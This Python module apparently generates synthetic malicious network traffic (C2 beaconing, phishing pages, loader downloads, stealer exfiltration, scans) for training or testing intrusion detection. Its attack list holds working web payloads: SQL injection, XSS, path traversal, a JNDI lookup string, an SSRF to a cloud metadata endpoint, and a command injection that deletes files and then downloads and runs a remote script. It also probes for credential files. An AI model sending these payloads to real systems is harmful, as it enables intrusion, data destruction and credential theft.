"""Controllers, phishing, downloads, stolen data and scans, in the shapes that reports of incidents describe; all hosts are made up."""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable

from tools.days.families import GENERATORS, generated_names, tunnel
from tools.days.track import Episode, Track, address

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
)
OLD = (
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    "",
    "WinHTTP/1.0",
)
PROGRAMS = (
    "curl/7.83.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Microsoft BITS/7.8",
    "Mozilla/5.0 WindowsPowerShell/5.1.19041",
    "",
    "",
)
_WORDS = [
    "portal",
    "update",
    "secure",
    "cdn",
    "static",
    "service",
    "sync",
    "panel",
    "cloud",
    "info",
    "data",
    "web",
    "mail",
    "office",
    "support",
    "login",
    "account",
    "client",
    "files",
    "doc",
]
_OWN_ADDRESS = ("api.ipify.org", "ip-api.com", "ifconfig.me", "checkip.amazonaws.com", "icanhazip.com", "ipinfo.io", "wtfismyip.com")


def _token(rng: random.Random, count: int, alphabet: str = string.ascii_lowercase + string.digits) -> str:
    return "".join(rng.choice(alphabet) for _ in range(count))


def bad_host(rng: random.Random) -> str:
    """A controller's name: of words, drawn letters, or below a provider of dynamic names."""
    kind = rng.random()
    if kind < 0.4:
        tld = rng.choice(("top", "xyz", "info", "com", "site", "ru", "shop"))
        return f"{rng.choice(_WORDS)}{rng.choice(('-', ''))}{rng.choice(_WORDS)}{rng.choice(('', '24', '365'))}.{tld}"
    if kind < 0.7:
        return rng.choice(list(GENERATORS.values()))(rng)()
    zone = rng.choice(("duckdns.org", "ddns.net", "hopto.org", "zapto.org"))
    return f"{_token(rng, rng.randint(5, 10), string.ascii_lowercase)}{rng.randrange(100)}.{zone}"


def _beat(rng: random.Random, begin: float, count: int, period: float) -> list[float]:
    jitter, times = rng.choice((0.02, 0.1, 0.3, 0.5)), [begin]
    for _ in range(count - 1):
        times.append(times[-1] + period * (1 + rng.uniform(-jitter, jitter)))
    return times


def web_controller(rng: random.Random, client: str, begin: float) -> Episode:
    """Beacons by HTTP to a name or an address: polls by GET with a long path or cookie, results by POST."""
    track, server, named = Track(client), address(rng), rng.random() < 0.6
    host = bad_host(rng) if named else ""
    agent, period = rng.choice((*OLD, *BROWSERS[:1], *PROGRAMS[:3])), rng.choice((5, 30, 60, 300))
    path = rng.choice(
        ("/gate.php", "/fre.php", "/index.php", "/api/v1/check", "/submit.php", "/jquery-3.3.1.min.js", "/news.asp", "/" + _token(rng, 24))
    )
    port = rng.choice((80, 80, 80, 8080, 8888, 4444))
    posts = rng.choice((0.1, 0.5, 1.0))
    for number, time in enumerate(_beat(rng, begin, rng.randint(12, 60), period)):
        method = "POST" if rng.random() < posts else "GET"
        if named and number % 10 == 0:
            track.lookup(time - 0.2, host, answers=(server,))
        uri = path + rng.choice(("", f"?id={_token(rng, 16)}", f"?{_token(rng, 4)}={base64.b64encode(rng.randbytes(24)).decode()}"))
        track.request(time, server, uri, agent, host=host, method=method, out=400 * (method == "POST"), port=port, mime="text/plain")
    return Episode("c2", "web controller", track, [host] if host else [], [server])


def port_controller(rng: random.Random, client: str, begin: float) -> Episode:
    """A remote-access tool: a name looked up, then long connections over a port of its own; some by TLS without a name."""
    track, server, named = Track(client), address(rng), rng.random() < 0.65
    host, port = bad_host(rng), rng.choice((1177, 2404, 4782, 5552, 6606, 7707, 8808, 9999, 54984, 3232, 1604))
    secure, again = rng.random() < 0.4, rng.random() < 0.6
    if rng.random() < 0.4:
        _ask_own_address(rng, track, begin - 4)
    for time in _beat(rng, begin, rng.randint(6, 30) if again else 1, rng.choice((10, 30, 120))):
        if named:
            track.lookup(time - 0.1, host, answers=(server,))
        if secure:
            track.tls(time, server, "", port, 1500, 2500)
        else:
            track.connect(time, server, port, 2000, 1200, 9.0)
    return Episode(
        "c2",
        "remote access " + ("tls" if secure else "tcp") + ("" if named else " without a name"),
        track,
        [host] if named else [],
        [server],
    )


def secure_controller(rng: random.Random, client: str, begin: float) -> Episode:
    """Beacons by TLS: to a name with its own SNI, or to several addresses without one."""
    track, named, period = Track(client), rng.random() < 0.6, rng.choice((10, 60, 300, 900))
    host, servers = bad_host(rng), [address(rng) for _ in range(1 if named else rng.randint(1, 4))]
    if rng.random() < 0.4:
        _ask_own_address(rng, track, begin - 5)
    for number, time in enumerate(_beat(rng, begin, rng.randint(12, 50), period)):
        server = servers[number % len(servers)]
        if named and number % 8 == 0:
            track.lookup(time - 0.1, host, answers=(server,))
        track.tls(time, server, host if named else "", rng.choice((443, 443, 8443, 449, 2222)) if not named else 443)
    return Episode("c2", "tls beacon" + ("" if named else " without a name"), track, [host] if named else [], servers)


def _ask_own_address(rng: random.Random, track: Track, time: float) -> None:
    name, server = rng.choice(_OWN_ADDRESS), address(rng)
    track.lookup(time, name, answers=(server,))
    track.request(time + 0.1, server, "/", rng.choice(("", *OLD)), host=name, mime="text/plain")


def phishing(rng: random.Random, client: str, begin: float) -> Episode:
    """A link in a mail: a redirect, a sign-in page, what was typed by POST."""
    track, server, agent = Track(client), address(rng), rng.choice(BROWSERS)
    brand = rng.choice(
        ("paypal", "microsoft", "netflix", "dhl", "amazon", "sparkasse", "apple", "usps", "office365", "metamask", "ing", "chase")
    )
    word = rng.choice(("login", "verify", "secure", "account", "update", "billing", "signin", "support"))
    form = rng.randrange(4)
    if form == 0:
        host = f"{brand}-{word}-{_token(rng, 4)}.{rng.choice(('com', 'top', 'info', 'xyz', 'online'))}"
    elif form == 1:
        host = f"www.{brand}.com.{word}.{_token(rng, 8)}.{rng.choice(('cn', 'com', 'ru', 'tk'))}"
    elif form == 2:
        host = f"{word}{brand}{rng.randrange(1000)}.{rng.choice(('weebly.com', 'web.app', 'pages.dev', 'github.io', 'netlify.app'))}"
    else:
        host = f"{rng.choice(_WORDS)}{rng.choice(_WORDS)}.{rng.choice(('com', 'com.br', 'in', 'co.za'))}"
    paths = [
        f"/{word}",
        f"/{brand}/{word}.php?id={_token(rng, 20)}",
        f"/wp-content/{brand}/{word}/index.html",
        f"/{_token(rng, 11)}/page1.php",
    ]
    track.visit(begin, host, server, agent, rng.choice(paths))
    track.request(begin + 2, server, rng.choice(paths), agent, host=host)
    if rng.random() < 0.6:
        track.request(
            begin + 40, server, rng.choice(("/post.php", "/submit.php", f"/{brand}/next.php")), agent, host=host, method="POST", out=180
        )
    return Episode("phishing", "sign-in page", track, [host], [server])


def download(rng: random.Random, client: str, begin: float) -> Episode:
    """A loader fetches programs: from an address, an odd port, or a fresh host, by a script."""
    track, server, named = Track(client), address(rng), rng.random() < 0.4
    host, port = bad_host(rng) if named else "", rng.choice((80, 80, 8000, 8081, 7777))
    agent, name = rng.choice(PROGRAMS), rng.choice(("a", "update", "svchost", "1", "bins/x86", "payload", "setup", "arm7", _token(rng, 8)))
    ending, mime = rng.choice(
        (
            ("exe", "application/x-dosexec"),
            ("dll", "application/x-dosexec"),
            ("sh", "text/x-shellscript"),
            ("bin", "application/octet-stream"),
            ("", "application/x-executable"),
            ("ps1", "text/plain"),
            ("hta", "text/html"),
        )
    )
    if named:
        track.lookup(begin, host, answers=(server,))
    for number in range(rng.randint(1, 4)):
        uri = f"/{name}{number or ''}" + (f".{ending}" if ending else "")
        track.request(begin + 0.2 + 7 * number, server, uri, agent, host=host, mime=mime, port=port, back=180_000)
    if rng.random() < 0.5:
        for time in _beat(rng, begin + 60, rng.randint(3, 10), 60):
            track.request(time, server, "/c/" + _token(rng, 12), agent, host=host, method="POST", out=300, port=port, mime="")
    return Episode("download", "loader " + (ending or "elf") + (" by name" if named else ""), track, [host] if host else [], [server])


def stolen_data(rng: random.Random, client: str, begin: float) -> Episode:
    """A stealer: its own address asked for, then mail, FTP, a form or a web service."""
    track, server, way = Track(client), address(rng), rng.choice(("mail", "ftp", "post", "port"))
    tld = rng.choice(("com", "in", "com.tr", "co.za"))
    host = f"{rng.choice(('mail', 'smtp', 'ftp', 'cpanel'))}.{rng.choice(_WORDS)}{rng.choice(_WORDS)}.{tld}"
    host = host if way in ("mail", "ftp") else bad_host(rng)
    if way != "post" or rng.random() < 0.5:
        _ask_own_address(rng, track, begin - 3)
    track.lookup(begin, host, answers=(server,))
    for number in range(rng.randint(1, 4)):
        time = begin + 1 + number * 600
        if way == "mail":
            track.connect(time, server, rng.choice((587, 587, 25, 465)), 30_000, 900, 3.0)
        elif way == "ftp":
            track.connect(time, server, 21, 400, 700, 4.0)
            track.connect(time + 1, server, rng.randrange(30_000, 60_000), 40_000, 120, 1.0)
        elif way == "post":
            track.request(
                time,
                server,
                rng.choice(("/upload.php", "/c2conf", "/api/log", "/p/" + _token(rng, 9))),
                rng.choice(PROGRAMS),
                host=host,
                method="POST",
                out=900_000,
                mime="",
            )
        else:
            track.connect(time, server, rng.choice((8889, 5050, 15647, 4449)), 2_500_000, 3000, 20.0)
    return Episode("exfiltration", way, track, [host], [server])


_ATTACKS = (
    "/item?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7176,0x71)--%20-",
    "/item?id=1%20AND%20SLEEP(5)",
    "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(7)%3E",
    "/page?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd",
    "/?x=${jndi:ldap://203.0.113.7:1389/a}",
    "/api/v1/user?name=%7B%7B7*7%7D%7D",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.8/x.sh;sh+x.sh",
    "/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/item?id=1)%20OR%201=1%20ORDER%20BY%20%2710",
)
_MISSING = (
    *("admin", "backup", ".git/config", ".env", "wp-login.php", "phpmyadmin", "old", "test", "db.sql", "server-status", "console"),
    *("actuator/env", "config.php.bak", ".aws/credentials", "xmlrpc.php", "web.config", "id_rsa", "dump.zip", "HNAP1", "solr/"),
    *("manager/html", "owa/", "api-docs", "swagger.json"),
)
_TOOLS = (
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25",
    "Nuclei - Open-source project",
    "masscan/1.3",
)


def scan(rng: random.Random, server: str, begin: float) -> Episode:
    """Attacks on a server of the network: by a tool or in a browser's clothes, fast or slow; or a search for pages or ports."""
    source, form = address(rng), rng.choice(("attack", "attack", "quiet attack", "pages", "ports"))
    track, agent, gap, time = Track(source), rng.choice((*_TOOLS, *BROWSERS, *BROWSERS, *PROGRAMS[:3])), rng.choice((0.1, 2, 60)), begin
    if form == "ports":
        for port in rng.sample(range(1, 9000), rng.randint(60, 400)):
            time += 0.05
            track.connect(time, server, port, 0, 0)
    elif form == "pages":
        for number in range(rng.randint(80, 400)):
            time += rng.uniform(0.5, 1.5) * min(gap, 2)
            track.request(time, server, f"/{rng.choice(_MISSING)}{number // len(_MISSING) or ''}", agent, status=404)
    else:
        for _ in range(rng.randint(12, 60) if form == "attack" else rng.randint(4, 8)):
            time += rng.uniform(0.5, 1.5) * gap
            uri = rng.choice(_ATTACKS).replace("1", str(rng.randrange(1, 999)), 1)
            track.request(time, server, uri, agent, status=rng.choice((200, 404, 500)))
    return Episode("scan", form, track, [], [source], [server])


Maker = Callable[[random.Random, str, float], Episode]
INTRUSIONS: dict[str, tuple[Maker, ...]] = {
    "dga": (generated_names,),
    "tunnel": (tunnel,),
    "c2": (web_controller, port_controller, secure_controller),
    "phishing": (phishing,),
    "download": (download,),
    "exfiltration": (stolen_data,),
    "scan": (scan,),
}
